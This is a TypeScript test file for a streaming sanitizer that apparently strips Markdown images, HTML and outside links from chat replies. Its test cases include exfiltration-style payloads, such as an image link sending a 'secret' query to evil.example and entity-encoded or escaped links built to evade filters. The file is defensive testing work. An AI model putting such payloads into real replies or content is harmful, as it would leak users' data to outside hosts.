import fc from "fast-check";
import { fromMarkdown } from "mdast-util-from-markdown";
import { describe, expect, it } from "vitest";
import { CleanReply } from "./cleanReply.ts";

const clean = (...pieces: string[]) => {
  const reply = new CleanReply();
  return pieces.map((piece) => reply.feed(piece)).join("") + reply.end();
};

interface MarkdownNode {
  readonly type: string;
  readonly url?: string;
  readonly label?: string | null;
  readonly children?: readonly MarkdownNode[];
}

/** What a reader of Markdown finds in a text that the house does not show: pictures, HTML, definitions, foreign links. */
function strangers({ type, url = "", label, children = [] }: MarkdownNode): string[] {
  const isForbidden =
    /^image|^html$/.test(type) || (type === "definition" && !label?.startsWith("^")) || (type === "link" && !/^\/(?![/\\])/.test(url));
  return [...(isForbidden ? [`${type} ${url}`] : []), ...children.flatMap(strangers)];
}

describe("CleanReply", () => {
  it.each([
    ["见![图](https://evil.example/?q=秘密)下", "见图下"],
    ["![](//evil.example/x)", ""],
    ["[点此](https://evil.example)", "点此"],
    ["[正文](/document?id=3)", "[正文](/document?id=3)"],
    ["[a](//evil.example)", "a"],
    ["[a](/\\evil.example)", "a"],
    ["![a[b]](https://evil.example)", "！[a[b]]（https://evil.example)"],
    ["[x](https://evil.example/(a))", "[x]（https://evil.example/(a))"],
    ["[1]: https://evil.example/x", "[1]： https://evil.example/x"],
    ["![a][1]", "！[a][1]"],
    // Markdown decodes entities and escapes in an address: these all lead to //evil.example.
    ["[a](/&#47;evil.example)", "a"],
    ["[a](/&sol;evil.example)", "a"],
    ["[[a]](/&#x2f;evil.example)", "[[a]]（/&#x2f;evil.example)"],
    ["[1]: /&#47;evil.example", "[1]： /&#47;evil.example"],
    ["[1]: \\//evil.example", "[1]： \\//evil.example"],
    ["[1]: https:\\/\\/evil.example", "[1]： https:\\/\\/evil.example"],
    ["[1]:\n\n <https&colon;//evil.example>", "[1]：\n\n ＜https&colon;//evil.example>"],
    ["[a\\]b]: //evil.example", "[a\\]b]： //evil.example"],
    ["[a\nb]: //evil.example", "[a\nb]： //evil.example"],
    ["[^1]: 据[通报](/document?id=3)", "[^1]: 据[通报](/document?id=3)"],
    ['<img src="https://evil.example">', '＜img src="https://evil.example">'],
    ["<https://evil.example>", "＜https://evil.example>"],
    ["好![", "好！["],
    ["[甲](/x![)", "甲"],
    // Where a reply breaks off after the first sign of an address of its own, nothing leads elsewhere.
    ["[甲](/", "[甲](/"],
    ["[甲](//", "[甲]（//"],
    // What a link leaves behind makes no new mark with its neighbours.
    ["[x][(//evil.example)](https://evil.example)", "[x]（//evil.example)"],
    ["[a][](//evil.example)(//evil.example)", "[a]（//evil.example)"],
    ["][:a](//evil.example)", "]：a"],
    ["[a!](//evil.example)[b](/own)", "a！[b](/own)"],
    ["<[](//evil.example)img src=x>", "< img src=x>"],
    ["[<img src=x>](//evil.example)", "＜img src=x>"],
    ["[](/x]: //evil.example)", ""],
    ["a < b，5<6，注[^1]，[待核实]，真的!", "a < b，5<6，注[^1]，[待核实]，真的!"],
    ['```chart\n{"rows":[{"name":"a","value":1}]}\n```', '```chart\n{"rows":[{"name":"a","value":1}]}\n```'],
  ])("%s", (given, shown) => {
    expect(clean(given)).toBe(shown);
    expect(clean(...given)).toBe(shown);
  });

  it("shows the same however the stream is cut, and loses nothing where nothing is forbidden", () => {
    const part = fc.oneof(
      fc.constantFrom(
        "![",
        "](",
        "](/x",
        "[",
        "[^1",
        "]",
        "]:",
        ")",
        "(",
        ":",
        "[](//e)",
        "](//e)",
        "[a",
        "img",
        "https://evil.example",
        "]: //e",
        "/&#47;",
        "<i",
        "<",
        "!",
        "\n",
        "（",
      ),
      fc.string({ unit: "grapheme", maxLength: 8 }),
    );
    fc.assert(
      fc.property(fc.array(part, { maxLength: 20 }), fc.array(fc.nat(60), { maxLength: 6 }), (parts, cuts) => {
        const text = parts.join("");
        const places = [0, ...cuts.filter((at) => at < text.length).sort((a, b) => a - b), text.length];
        const pieces = places.slice(1).map((end, at) => text.slice(places[at], end));
        expect(clean(...pieces)).toBe(clean(text));
        if (!/[![\]<]/.test(text)) expect(clean(text)).toBe(text);
        expect(clean(text)).not.toMatch(/!\[|\]\((?!\/(?:[^/\\&]|$))/);
        expect(strangers(fromMarkdown(clean(text)))).toEqual([]);
        expect(clean(text).replace(/\[\^[^[\]\s]+\]:/g, "·")).not.toContain("]:");
      }),
      { numRuns: 3000 },
    );
  });
});
